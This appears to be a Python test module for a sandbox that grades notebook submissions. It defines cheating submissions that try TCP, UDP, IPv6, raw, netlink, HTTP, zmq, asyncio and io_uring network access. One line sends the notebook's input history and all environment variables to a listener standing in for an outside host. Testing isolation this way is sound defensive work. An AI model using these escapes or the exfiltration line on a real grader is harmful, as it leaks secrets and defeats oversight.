"""Submissions that talk: to a listener on this machine, which stands for any other machine."""

from .corpus import cheat
from .introspection import KEEP

SEEN = "get_ipython().user_ns['In'], dict(os.environ)"


def says(name: str, code: str) -> object:
    body = "\n".join(f"    {line}" for line in code.splitlines())
    return cheat(
        name,
        f"{KEEP}import socket, time\nsocket.setdefaulttimeout(2)\ntry:\n{body}\n"
        "    print('unde' + 'served')\nexcept Exception as error:\n    print(error)",
    )


HERE = "('127.0.0.1', @PORT@)"
ATTACKS = [
    says("TCP", f"socket.create_connection({HERE}).sendall(repr(({SEEN})).encode())"),
    says("UDP", f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', {HERE})"),
    says("IPv6", "socket.socket(socket.AF_INET6, socket.SOCK_STREAM).bind(('::1', 0))"),
    says("listen", "socket.create_server(('127.0.0.1', 0))"),
    says("raw packets", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    says("netlink", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)"),
    says("http", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@PORT@/').read()"),
    says(
        "zmq over TCP",
        "import zmq\nwith zmq.Context() as c, c.socket(zmq.PUSH) as s:\n        s.bind('tcp://127.0.0.1:*')",
    ),
    says(
        "asyncio",
        "import asyncio\nfuture = asyncio.ensure_future(asyncio.open_connection('127.0.0.1', @PORT@))\n"
        "await asyncio.wait_for(future, 2)",
    ),
    says(
        "io_uring",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.syscall(425, 8, ctypes.create_string_buffer(120)) < 0:\n"
        "    raise OSError(ctypes.get_errno(), 'io_uring')",
    ),
]
